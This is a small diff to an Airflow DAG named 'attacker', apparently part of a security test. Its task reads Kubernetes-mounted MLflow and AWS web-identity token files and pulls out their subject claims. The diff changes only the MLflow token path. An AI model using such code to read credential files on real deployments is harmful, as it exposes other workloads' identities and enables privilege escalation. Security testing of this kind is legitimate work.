@@ -74,7 +74,7 @@ def ask(path, method="GET", body=None):
 with DAG("attacker", schedule="@once", is_paused_upon_creation=False):
     @task
     def own():
-        paths = "/var/run/secrets/mlflow/token", os.environ["AWS_WEB_IDENTITY_TOKEN_FILE"]
+        paths = "/var/run/secrets/tokens/mlflow", os.environ["AWS_WEB_IDENTITY_TOKEN_FILE"]
         return [json.loads(claims(pathlib.Path(path)))["sub"] for path in paths]
 
     @task
